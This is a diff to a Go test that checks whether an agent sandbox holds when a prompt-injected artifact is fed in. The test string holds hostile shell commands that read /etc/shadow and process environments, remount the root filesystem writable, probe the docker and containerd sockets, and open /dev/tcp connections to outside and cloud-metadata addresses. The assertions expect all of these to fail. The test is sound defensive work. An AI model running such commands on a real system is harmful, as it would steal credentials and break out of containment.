@@ -28,7 +28,9 @@ func TestInjectedArtifact(t *testing.T) {
 		t.Run(map[bool]string{false: "local", true: "container"}[container], func(t *testing.T) {
 			p := newPilot(t, "1.6.0", container)
 			innocent, hostile := p.briefed("Version 3 drops the old format.", "true"), p.briefed(injection,
-				"cat /etc/shadow /proc/1/environ; ls /in /skills /root; mount -o remount,rw /; echo > /skills/x; echo x > /dev/tcp/1.1.1.1/53; echo tried")
+				"cat /etc/shadow /proc/1/environ; ls /in /skills /root; mount -o remount,rw /; echo > /skills/x; echo x > /dev/tcp/1.1.1.1/53; "+
+					"echo x > /dev/tcp/169.254.169.254/80; echo x > /dev/tcp/::1/80; getent hosts canary.example.invalid || echo unresolved; cat /proc/net/dev; "+
+					"ls /run/containerd /var/run/docker.sock; cat /proc/net/unix; echo tried")
 			for _, name := range []string{record.PlanFile, "spec.json", "sandbox", "harness", "request", "tools"} {
 				if !bytes.Equal(innocent[name], hostile[name]) || len(innocent[name]) == 0 {
 					t.Errorf("%s differs:\n%s\n%s", name, innocent[name], hostile[name])
@@ -46,7 +48,12 @@ func TestInjectedArtifact(t *testing.T) {
 					t.Errorf("the agent saw %q", mark)
 				}
 			}
-			for _, refusal := range []string{"/etc/shadow: ", "/skills/x: Read-only file system", "Network is unreachable"} {
+			// C9: no resolver, no link-local address, no other interface, no socket of
+			// the host.
+			if bytes.Contains(hostile["stream"], []byte("eth0")) || bytes.Contains(hostile["stream"], []byte("containerd.sock")) || bytes.Contains(hostile["stream"], []byte(" @")) {
+				t.Error("it sees something of the host's network")
+			}
+			for _, refusal := range []string{"unresolved", "169.254.169.254/80: Network is unreachable", "/etc/shadow: ", "/skills/x: Read-only file system", "Network is unreachable"} {
 				if !bytes.Contains(hostile["stream"], []byte(refusal)) {
 					t.Errorf("nothing says %q", refusal)
 				}
